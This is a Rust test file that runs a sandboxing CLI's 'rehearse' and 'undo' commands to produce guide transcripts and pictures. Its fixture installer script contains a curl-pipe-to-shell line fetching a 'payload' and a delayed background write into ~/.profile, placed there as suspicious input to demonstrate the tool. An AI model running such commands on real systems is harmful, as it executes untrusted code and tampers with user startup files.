//! The transcripts and pictures of the guide, made by running the commands that they show.
//!
//! `BYLEAVE_GUIDE=write cargo nextest run -p byleave-cli -E 'test(guide::)'` writes them. Otherwise they must match the files.

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, chown};
use std::path::{Path, PathBuf};

use regex::Regex;

use crate::desk::OtherUserWorld;
use crate::sitting::TerminalSession;

type GuideScene = (&'static str, &'static [&'static str], &'static [(&'static str, &'static str)]);

/// For each scene: its name, the typed command, and the answers, each with the prompt that it waits for.
const SCENES: [GuideScene; 4] = [
    ("codemod", &["rehearse", "--", "./codemod.sh"], &[("later > ", "y")]),
    ("undo", &["undo"], &[]),
    ("installer", &["rehearse", "--", "./from-the-internet.sh"], &[("later > ", "n")]),
    ("install", &["rehearse", "--write", PREFIX, "--", "make", "install"], &[("later > ", "y")]),
];

/// A placeholder for a directory that no test may touch.
const PREFIX: &str = "/usr/local";

const CODEMOD: &str = "#!/bin/sh
for file in src/*.js; do sed -i 's/var /const /' $file; echo \"rewrote $file\"; done
git mv -f src/util.js src/utils.js 2>/dev/null || mv src/util.js src/utils.js
rm -r old; echo '{\"codemod\": 1}' > .codemod.json
";

const INSTALLER: &str = "#!/bin/sh
echo 'Installing the tool...'
curl -s https://get.tool.example/payload | sh
mkdir -p bin && printf '#!/bin/sh\\necho tool\\n' > bin/tool && chmod +x bin/tool
(sleep 60; echo gotcha >> \"$HOME/.profile\") &
echo 'Done!'
";

const MAKEFILE: &str = "install:
\tinstall -D -m 755 tool.sh $(PREFIX)/bin/tool
\tinstall -D -m 644 tool.1 $(PREFIX)/share/man/man1/tool.1
";

pub(crate) fn docs() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/guide")
}

/// Replaces everything that differs between runs: paths, ids and durations.
fn settled(text: &str, desk: &OtherUserWorld, prefix: &str) -> String {
    let workspace = desk.world.workspace().display().to_string();
    let text = text.replace(prefix, PREFIX).replace(&workspace, "/home/ann/work").replace('\r', "");
    let ids = Regex::new(r"(undo|diff|answer|show) [0-9a-f]{8}\b").unwrap();
    let text = ids.replace_all(&text, "$1 7f3c02a9");
    let undone = Regex::new("(undone:(?:\x1b\\[[0-9;]*m)* )[0-9a-f]{8}\\b").unwrap();
    let text = undone.replace_all(&text, "${1}4d3f7f3c");
    let whole = Regex::new(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}").unwrap();
    let text = whole.replace_all(&text, "0192c1d4-6a1e-7c55-9d1b-4d3f7f3c02a9");
    Regex::new(r"\(\d+\.\d s on").unwrap().replace_all(&text, "(0.1 s on").into_owned()
}

fn plain(text: &str) -> String {
    Regex::new("\x1b\\[[0-9;]*m").unwrap().replace_all(text, "").into_owned()
}

fn set_up(desk: &OtherUserWorld, prefix: &Path) {
    let at = desk.world.workspace();
    for directory in ["src", "old"] {
        fs::create_dir(at.join(directory)).unwrap();
    }
    let files: [(&str, &str); 9] = [
        ("src/main.js", "var util = require('./util');\nvar answer = 42;\n"),
        ("src/util.js", "var one = 1;\nmodule.exports = { one };\n"),
        ("old/notes.txt", "do not lose me\n"),
        ("old/more.txt", "nor me\n"),
        ("codemod.sh", CODEMOD),
        ("from-the-internet.sh", INSTALLER),
        ("Makefile", &format!("PREFIX = {}\n{MAKEFILE}", prefix.display())),
        ("tool.sh", "#!/bin/sh\necho tool\n"),
        ("tool.1", ".TH TOOL 1\n"),
    ];
    for (name, text) in files {
        fs::write(at.join(name), text).unwrap();
    }
    for name in ["codemod.sh", "from-the-internet.sh", "tool.sh"] {
        fs::set_permissions(at.join(name), fs::Permissions::from_mode(0o755)).unwrap();
    }
    let mut left = vec![at.clone(), prefix.to_path_buf()];
    while let Some(path) = left.pop() {
        chown(&path, Some(61_003), Some(61_003)).unwrap();
        if path.is_dir() {
            left.extend(fs::read_dir(&path).unwrap().map(|entry| entry.unwrap().path()));
        }
    }
}

// req: E5
#[test]
fn the_guide_shows_what_happens() {
    let desk = OtherUserWorld::new();
    let place = tempfile::tempdir_in("/var/lib").unwrap();
    let prefix = place.path().canonicalize().unwrap();
    set_up(&desk, &prefix);
    let prefix = prefix.to_str().unwrap();
    let write = std::env::var("BYLEAVE_GUIDE").is_ok_and(|how| how == "write");
    let page = docs().join("rehearse.md");
    let mut text = fs::read_to_string(&page).unwrap();
    for (name, words, answers) in SCENES {
        let mut command = desk.world.command(Path::new("setsid"));
        command.args(["--ctty", "--wait"]).arg(&desk.program).args(["--color", "always"]);
        command.args(words.iter().map(|word| if *word == PREFIX { prefix } else { word }));
        command.env("BYLEAVE_WAIVE", "memory-limited").env("TERM", "xterm");
        let mut sitting = TerminalSession::before(desk.by_another(command));
        for (prompt, key) in answers {
            sitting.await_text(prompt);
            sitting.press(&format!("{key}\n"));
        }
        let (code, seen) = sitting.end();
        assert_eq!(code, Some(0), "{name}: {seen}");
        let shown = format!("$ byleave {}\n{}", words.join(" "), settled(&seen, &desk, prefix));
        let svg = anstyle_svg::Term::new().min_width_px(860).render_svg(&shown);
        put(&docs().join(format!("{name}.svg")), &svg, write);
        text = between(&text, name, &plain(&shown));
    }
    put(&page, &text, write);
}

/// Returns the page with this text in the block of that name.
fn between(page: &str, name: &str, shown: &str) -> String {
    let begin = format!("<!-- scene: {name} -->\n");
    let end = "<!-- end -->";
    let (head, rest) = page.split_once(&begin).unwrap_or_else(|| panic!("the guide has no scene `{name}`"));
    let (_, tail) = rest.split_once(end).unwrap();
    format!("{head}{begin}![{name}]({name}.svg)\n\n```console\n{}\n```\n{end}{tail}", shown.trim_end())
}

#[track_caller]
pub(crate) fn put(path: &Path, text: &str, write: bool) {
    if write {
        fs::write(path, text).unwrap();
        return;
    }
    let there = fs::read_to_string(path).unwrap_or_default();
    assert!(
        there == text,
        "`{}` is not what happens; write it with BYLEAVE_GUIDE=write:\n{text}",
        path.display()
    );
}
